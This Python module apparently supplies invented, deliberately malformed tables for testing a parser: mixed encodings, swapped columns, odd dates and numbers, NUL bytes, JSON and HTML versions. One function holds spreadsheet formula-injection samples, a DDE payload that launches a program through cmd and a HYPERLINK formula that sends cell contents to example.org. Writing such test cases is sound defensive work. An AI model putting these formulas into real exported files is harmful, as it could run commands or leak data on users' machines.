"""The texts of the museum: delimited tables, JSON and a web page, all invented."""

from __future__ import annotations

import json

from reports.sheets import HARBOUR, HEADINGS, INVENTED, LANTERN, RELIEF, ROWS

HEAD = ",".join(str(heading) for heading in HEADINGS)
LINES = tuple(",".join(str(cell) for cell in row) for row in ROWS)


def table(*lines: str, head: str = HEAD, encoding: str = "utf-8") -> bytes:
    """Return a title, a line of headings and lines of data."""
    return "\r\n".join((INVENTED.replace(",", ";"), head, *lines, "")).encode(encoding)


def mixed_encodings() -> bytes:
    """Three lines in UTF-8, one in Windows-1252, one in Windows-1251, pasted together."""
    head = "Organisation,Secteur,Activité,District,Personnes atteintes"
    return (
        table(
            f"{LANTERN},Santé,Clinique mobile,Kestrel,120",
            f"{RELIEF},Éducation,École réparée,Nordvale,45",
            head=head,
        )
        + "Société Exempla,Santé,Formation à l’hygiène,Sudvale,16\r\n".encode("cp1252")
        + "Маяк Примерный,Здоровье,Обучение,Kestrel,9\r\n".encode("cp1251")
        + f"{HARBOUR},Santé,Préparation,Kestrel,30\r\n".encode()
    )


def columns_swap() -> bytes:
    """From the fourth line on, sector and district stand in each other's column."""
    return table(
        *LINES[:3],
        f"{RELIEF},Kestrel,Evening classes,Education,300",
        f"{HARBOUR},Nordvale,Mobile clinic,Health,12",
        f"{LANTERN},Sudvale,School repair,Education,44",
    )


def several_in_a_cell() -> bytes:
    return table(
        f"{LANTERN}; {RELIEF},Health; Education,Mobile clinic,Kestrel; Nordvale,120",
        f"{RELIEF},Education,School repair,Nordvale,45",
        f"{HARBOUR} / {RELIEF},Health,Training,Kestrel,16",
        f'"{LANTERN}\n{HARBOUR}",Education,Classes,Sudvale,9',
        f"{HARBOUR},Health,Training,Kestrel,7",
        f"{LANTERN},Health,Training,Sudvale,8",
    )


def says_nothing() -> bytes:
    return table(
        f"{LANTERN},#N/A,Mobile clinic,None,120",
        f"{RELIEF},Education,n/a,Nordvale,#N/A",
        "None,Health,Training of midwives,Sudvale,16",
        "#N/A,NULL,-,n/a,#REF!",
        f"{HARBOUR},Health,Training of midwives,Sudvale,none",
    )


def cyrillic() -> bytes:
    lines = (
        "Вымышленный список для проверки: таких организаций и мест нет",
        "Организация;Сектор;Мероприятие;Район;Охвачено людей",
        "Общество «Синий фонарь»;Здравоохранение;Передвижная клиника;Кестрел;1 200,5",
        "Помощь Примеру;Образование;Ремонт школы;Нордвейл;45",
        "Помощь Примеру;Защита;Обучение;Зюдвейл;16",
        "Итого;;;;1 261,5",
    )
    return "\r\n".join((*lines, "")).encode("cp1251")


def arabic() -> bytes:
    lines = (
        "قائمة مخترعة للاختبار",
        "المنظمة;القطاع;النشاط;المحافظة;عدد المستفيدين",
        "جمعية الفانوس الأزرق;الصحة;عيادة متنقلة;الوادي الأعلى;120",
        "إغاثة المثال;التعليم;ترميم مدرسة;الوادي الأسفل;45",
        "إغاثة المثال;الحماية;تدريب;الوادي الأعلى;16",
    )
    return "\r\n".join((*lines, "")).encode("cp1256")


def dates() -> bytes:
    """Dates as people type them; in two of them day and month could be either."""
    said = (
        *("2012-03-15", "March 2012", "15 mars 2012", "Q1 2012", "41000", "2012"),
        *("03/04/2012", "04-05-12", "soon", "2012-02-31"),
    )
    return _of_dates(*said)


def dates_decided() -> bytes:
    """A column whose second date says that days come first; one date is none of any calendar."""
    return _of_dates("03/04/2012", "15/03/2012", "99/99/9999")


def _of_dates(*said: str) -> bytes:
    return table(
        *(f"{LANTERN},Health,Visit {n},Kestrel,{one}" for n, one in enumerate(said, 1)),
        head="Organization,Sector,Activity,District,Start date",
    )


def numbers() -> bytes:
    """Numbers as people type them; some are none, one could be two."""
    said = (
        *("120", "1 200", "1,250", '"1,250.75"', "about 30", "~40", "50+", "١٢٠", "-5"),
        *("10-20", "many", "1.2.3", "1e3", "12%", "0", "120 people", "1’300", "(15)"),
    )
    quoted = (one if "," not in one or one.startswith('"') else f'"{one}"' for one in said)
    return table(*(f"{RELIEF},Health,Visit {n},Kestrel,{one}" for n, one in enumerate(quoted, 1)))


def unbalanced_quote() -> bytes:
    return table(
        LINES[0],
        f'{RELIEF},Education,"School repair,Nordvale,45',
        *LINES[2:],
        f'{HARBOUR},Health,The "old" clinic,Kestrel,7',
    )


def nul_bytes() -> bytes:
    return table(LINES[0], LINES[1].replace("School", "Sch\x00ool"), *LINES[2:]).replace(
        b"Sudvale", b"Sud\x00vale"
    )


def headings_twice() -> bytes:
    return table(
        f"{LANTERN},Health,Education,Kestrel,Nordvale,120,20,first,second",
        f"{RELIEF},Education,,Nordvale,,45,,only,",
        f"{HARBOUR},Health,Health,Sudvale,Kestrel,16,6,,late",
        head="Organization,Sector,Sector,District,District,People reached,People reached,"
        "Remarks,Remarks",
    )


def formulas_as_text() -> bytes:
    """What a spreadsheet program would run if the list were opened in it."""
    return table(
        f'{LANTERN},Health,"=HYPERLINK(""http://example.org/?""&A1,""Clinic"")",Kestrel,120',
        f"{RELIEF},Education,=1+1,Nordvale,45",
        "@SUM(A1:A9),Health,+cmd|' /C calc'!A0,Sudvale,16",
        f"{HARBOUR},Health,-2+3,Kestrel,9",
    )


def no_organization() -> bytes:
    return table(
        *(",".join(str(cell) for cell in row[1:]) for row in ROWS),
        head=",".join(str(heading) for heading in HEADINGS[1:]),
    )


def hxl_arrays() -> bytes:
    tags = ["#org", "#sector", "#activity", "#adm2+name", "#reached"]
    rows = [[INVENTED], list(HEADINGS), tags, *map(list, ROWS)]
    return json.dumps(rows, ensure_ascii=False, indent=1).encode()


def web_page() -> bytes:
    cells = "".join(
        f"<tr>{''.join(f'<td>{cell}</td>' for cell in row)}</tr>\n" for row in (HEADINGS, *ROWS)
    )
    return (
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel">\n<head><title>3W</title></head>\n'
        f"<body><p>{INVENTED}</p>\n<table>\n{cells}</table></body></html>\n"
    ).encode()
